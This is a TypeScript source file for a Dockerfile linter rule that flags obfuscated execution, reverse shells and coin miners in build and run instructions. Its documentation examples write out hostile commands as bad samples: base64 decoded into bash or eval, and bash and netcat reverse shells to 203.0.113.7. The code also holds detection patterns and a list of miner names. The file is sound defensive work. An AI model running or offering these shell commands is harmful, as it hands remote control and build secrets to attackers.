import { whenItRuns } from '../../../analysis/commands/stage-commands.ts';
import { type Tool, toolOf } from '../../../analysis/commands/tool.ts';
import { outputFile } from '../../../analysis/downloads/fetch.ts';
import { interpreterName, isCodeOption, isRun, runsInput } from '../../../analysis/downloads/interpreters.ts';
import { nameOf } from '../../../analysis/paths/shell-paths.ts';
import { windowsScripts } from '../../../analysis/windows/windows-commands.ts';
import { FILTERS } from '../../../data/programs.ts';
import { type CommandLine, instructionsOf, isReachable, type Stage } from '../../../model/dockerfile.ts';
import type { Problem } from '../../../model/findings/finding.ts';
import { type Command, everyPipeline, type Pipeline, type Script, type ShellWord } from '../../../model/shell.ts';
import type { Span } from '../../../model/source.ts';
import { defineRule } from '../../define-rule.ts';
import { type Held, heldIn, hold } from './held-text.ts';
import { decodedCode, encodedCommands } from './windows-hidden-code.ts';

export default defineRule({
  id: 'obfuscated-exec',
  on: 'stage',
  danger: { attacker: 'network', reach: 'users' },
  profile: 'recommended',
  precision: 'high',
  cwe: [506],
  docs: {
    title: 'Do not run code that hides what it does',
    why: 'Code that is decoded and run at once, a shell whose input and output are a network connection, a program that mines coins: attackers leave these behind in a Dockerfile that they managed to change. The code runs in the build, with its secrets, and in every container.',
    how: 'Find out who added the line and why, and treat the build as compromised until you know. If it is intended, put the plain code into a file of the repository and copy that.',
    limits:
      'Decoding data into a file is left alone, as are connections that only test whether a port is open. The rule does not know every way to hide code.',
    references: [
      'https://attack.mitre.org/techniques/T1027/',
      'https://attack.mitre.org/techniques/T1059/004/',
      'https://cwe.mitre.org/data/definitions/506.html',
    ],
  },
  examples: [
    {
      file: 'Dockerfile',
      bad: `
        FROM debian:12
        RUN «echo ZWNobyBoZWxsbwo= | base64 -d | bash»
        RUN «eval "$(echo ZWNobyBoZWxsbwo= | base64 --decode)"»
      `,
      good: `
        FROM debian:12
        RUN echo aGVsbG8K | base64 -d > /etc/greeting
        RUN echo hello
      `,
    },
    {
      file: 'Dockerfile',
      bad: `
        FROM debian:12
        RUN «bash -i >& /dev/tcp/203.0.113.7/4444 0>&1»
        RUN «nc -e /bin/sh 203.0.113.7 4444»
      `,
      good: `
        FROM debian:12
        RUN timeout 5 bash -c '</dev/tcp/mirror.example.org/443'
        RUN nc -z mirror.example.org 443
      `,
    },
  ],

  check(stage) {
    if (!isReachable(stage)) return [];
    const problems: Problem[] = [];
    for (const instruction of instructionsOf(stage, 'RUN', 'CMD', 'ENTRYPOINT', 'HEALTHCHECK')) {
      if (instruction.isTriggered) continue;
      const isBuild = instruction.keyword === 'RUN';
      for (const found of hiddenIn(instruction.line?.script, isBuild))
        problems.push(problem(stage, instruction, found));
      const encoded = instruction.line && encodedText(instruction.line);
      if (encoded !== undefined) problems.push(problem(stage, instruction, encoded));
    }
    problems.push(...hiddenOnWindows(stage));
    for (const { script } of stage.startedFiles)
      for (const found of hiddenIn(script, false)) problems.push(problem(stage, { isOnbuild: false }, found));
    return problems;
  },
});

function* hiddenOnWindows(stage: Stage): Generator<Problem> {
  for (const { instruction, tokens, isCalled } of windowsScripts(stage)) {
    for (const at of isCalled ? encodedCommands(tokens) : []) yield problem(stage, instruction, { at, how: ENCODED });
    for (const at of decodedCode(tokens)) yield problem(stage, instruction, { at, how: DECODES });
  }
}

/** The image of a miner may mine when it runs. */
function* hiddenIn(script: Script | undefined, isBuild: boolean): Generator<Found> {
  const decoded: Decoded = { held: new Map(), files: new Set() };
  for (const pipeline of everyPipeline(script)) {
    const found =
      hiddenCode(pipeline) ?? encodedCommand(pipeline) ?? storedCode(pipeline, decoded) ?? remoteShell(pipeline);
    const any = found ?? (isBuild ? miner(pipeline) : undefined);
    if (any !== undefined) yield any;
  }
}

interface Found {
  readonly at: Span;
  /** The predicate of a sentence that begins with the stage. */
  readonly how: string;
}

/** `pwsh -EncodedCommand SQBFAFgA…`: the option may be shortened, and its value is in base64. */
function encodedCommand({ commands }: Pipeline): Found | undefined {
  const found = commands.find(
    ({ program, arguments: words }) =>
      (program === 'pwsh' || program === 'powershell') &&
      words.some(({ pieces }, at) => ENCODED_OPTION.test(words[at - 1]?.pieces ?? '') && BASE64.test(pieces)),
  );
  return found && { at: found.span, how: ENCODED };
}

const ENCODED_OPTION = /^-e(?:c|n[a-z]*)?$/i;
const BASE64 = /^[A-Za-z0-9+/]{16,}={0,2}$/;
const ENCODED = 'gives PowerShell a command in base64, and runs it';
const ENCODED_IN_TEXT = /\b(?:pwsh|powershell)(?:\.exe)?[ \t"]([^\r\n]{0,2000})/i;

/** The same for a shell of Windows. */
function encodedText({ shell, text, span }: CommandLine): Found | undefined {
  if (shell === 'posix') return undefined;
  const words = ENCODED_IN_TEXT.exec(text)?.[1]?.split(/[ \t"',]+/) ?? [];
  const isHidden = words.some((word, at) => ENCODED_OPTION.test(words[at - 1] ?? '') && BASE64.test(word));
  return isHidden ? { at: span, how: ENCODED } : undefined;
}

function hiddenCode({ commands }: Pipeline): Found | undefined {
  let start: Command | undefined;
  let isDecoded = false;
  for (const command of commands) {
    const tool = toolOf(command);
    if (isDecoded && tool !== undefined && interpreterName(tool, command) !== undefined && runsInput(tool)) {
      return { at: { ...(start ?? command).span, end: command.span.end }, how: DECODES };
    }
    if (decodesAndRuns(command)) return { at: command.span, how: DECODES };
    isDecoded = isDecoder(command) || (isDecoded && FILTERS.has(tool?.name ?? ''));
    start ??= command;
  }
  return undefined;
}

/** Where decoded text is kept before it runs. */
interface Decoded {
  readonly held: Held<true>;
  readonly files: Set<string>;
}

/** `X=$(… | base64 -d); eval "$X"`, `… | base64 -d > f; sh f` */
function storedCode({ commands }: Pipeline, { held, files }: Decoded): Found | undefined {
  let found: Found | undefined;
  let isDecoded = false;
  for (const command of commands) {
    const tool = toolOf(command);
    if (tool !== undefined && interpreterName(tool, command) !== undefined && runsStored(command, tool, held, files))
      found ??= { at: command.span, how: DECODES };
    hold(held, command, undefined, ({ script }) => (endsDecoded(script) ? true : undefined));
    isDecoded = isDecoder(command) || (isDecoded && FILTERS.has(tool?.name ?? ''));
    const file = isDecoded ? outputFile(command) : undefined;
    if (file !== undefined) files.add(file);
  }
  return found;
}

function runsStored(command: Command, tool: Tool, held: Held<true>, files: ReadonlySet<string>): boolean {
  const { arguments: words } = tool;
  if (tool.name === 'eval') return words.some(({ raw }) => heldIn(raw, held) === true);
  const code = words.findIndex(({ pieces }) => isCodeOption(tool, pieces));
  if (code !== -1) return heldIn(words[code + 1]?.raw ?? '', held) === true;
  const file = words.find(({ pieces }) => !pieces.startsWith('-'));
  return file !== undefined && interpreterName(tool, command) !== undefined && files.has(nameOf(file));
}

const DECODES = 'decodes hidden code and runs it at once';

/** `base64 -d`, `xxd -r`, `openssl base64 -d`. */
function isDecoder({ program, arguments: words }: Command): boolean {
  switch (program) {
    case 'base64':
    case 'base32':
      return has(words, /^-[a-zA-Z]*[dD]|^--decode$/);
    case 'openssl':
      return has(words, /^(?:enc|base64)$|^-(?:base64|aes|des)/) && has(words, /^-d$/);
    case 'xxd':
      return has(words, /^-[a-z]*r/);
    case 'tr':
      return words.length === 2 && words.every(({ pieces }) => /[a-z]-[a-z]/.test(pieces));
    default:
      return program === 'uudecode' || program === 'rev';
  }
}

function has(words: readonly ShellWord[], pattern: RegExp): boolean {
  return words.some(({ pieces }) => pattern.test(pieces));
}

/** `bash -c "$(… | base64 -d)"`, `eval $(…)`, `bash <(…)`, and the same in one line of Python, Perl, PHP or Node. */
function decodesAndRuns(command: Command): boolean {
  const tool = toolOf(command);
  for (const { kind, argument, script } of command.substitutions) {
    if (isRun(command, tool, kind, argument) && endsDecoded(script)) return true;
  }
  if (tool === undefined || !CODE_RUNNERS.has(tool.name)) return false;
  return tool.arguments.some(({ pieces }) =>
    /\b(?:exec|eval)(?:(?!\b(?:exec|eval))[^;]){0,130}(?:b64decode|base64_decode|decode_base64|Base64\.decode|fromhex|'base64'|"base64")/.test(
      pieces,
    ),
  );
}

const CODE_RUNNERS: ReadonlySet<string> = new Set(['python', 'perl', 'php', 'node', 'ruby', 'pypy']);

function endsDecoded({ pipelines }: Script): boolean {
  return pipelines.some(({ commands }) => {
    const index = commands.findLastIndex(isDecoder);
    return index !== -1 && commands.slice(index + 1).every(({ program }) => FILTERS.has(String(program)));
  });
}

const SHELL = /^(?:ba|da|a|z|k)?sh$/;

/** A shell whose input or output is a connection to another machine. */
function remoteShell({ commands }: Pipeline): Found | undefined {
  for (const command of commands) {
    const { program, arguments: words, redirects } = command;
    const isConnected = redirects.some(
      ({ operator, target }) => isRemote(target?.pieces) && /^(?:>&|&>|<>|>|<)$/.test(operator),
    );
    if (isConnected && SHELL.test(String(program)) && command.inner === undefined)
      return { at: endOf(command), how: CONNECTS };
    if (!CONNECTORS.has(program)) continue;
    if (words.some(({ pieces }, index) => startsShell(pieces, words[index - 1]?.pieces)))
      return { at: command.span, how: CONNECTS };
  }
  return undefined;
}

const CONNECTORS: ReadonlySet<unknown> = new Set(['nc', 'ncat', 'netcat', 'socat']);

const CONNECTS = 'gives a shell to another machine';

function isRemote(target: string | undefined): boolean {
  return target?.startsWith('/dev/') === true && /^\/dev\/(?:tcp|udp)\/(?!localhost\/|127\.)./.test(target);
}

/** From its program to the last redirect. */
function endOf({ span, redirects }: Command): Span {
  const ends = redirects.flatMap(({ target }) => (target === undefined ? [] : [target.span.end]));
  return { ...span, end: Math.max(span.end, ...ends) };
}

function startsShell(word: string, before: string | undefined): boolean {
  if (/^exec:["']?(?:\/bin\/)?(?:ba)?sh\b/i.test(word)) return true;
  return /^(?:\/usr)?(?:\/bin\/)?(?:ba|da|a)?sh$/.test(word) && /^-[a-z]*[ec]$|^--(?:sh-)?exec$/.test(before ?? '');
}

const MINERS: ReadonlySet<string> = new Set(
  'xmrig xmr-stak minerd cpuminer cgminer nbminer t-rex lolMiner ethminer'.split(' '),
);

function miner({ commands }: Pipeline): Found | undefined {
  const found = commands.find(
    ({ program, arguments: words }) =>
      (typeof program === 'string' &&
        MINERS.has(program) &&
        !words.every(({ pieces }) => /^--?(?:version|help|V|h)$/.test(pieces))) ||
      (program !== 'echo' &&
        program !== 'sed' &&
        words.some(({ pieces }) => pieces.startsWith('stratum+') && /^stratum\+(?:tcp|ssl|tls):\/\//.test(pieces))),
  );
  return found && { at: found.span, how: 'mines coins during the build' };
}

function problem({ title }: Stage, run: { isOnbuild: boolean }, { at, how }: Found): Problem {
  return { at, message: whenItRuns(run, `${title} ${how}.`) };
}
